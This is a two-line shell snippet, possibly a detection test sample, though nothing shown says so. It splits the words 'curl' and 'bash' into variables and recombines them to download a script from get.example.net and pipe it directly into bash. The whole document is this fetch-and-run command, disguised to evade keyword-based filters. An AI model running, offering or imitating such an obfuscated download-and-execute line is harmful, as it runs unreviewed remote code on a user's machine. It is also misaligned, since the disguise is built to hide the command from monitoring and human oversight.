a=cu; b=rl; c=ba; d=sh
$a$b -s https://get.example.net/x | $c$d
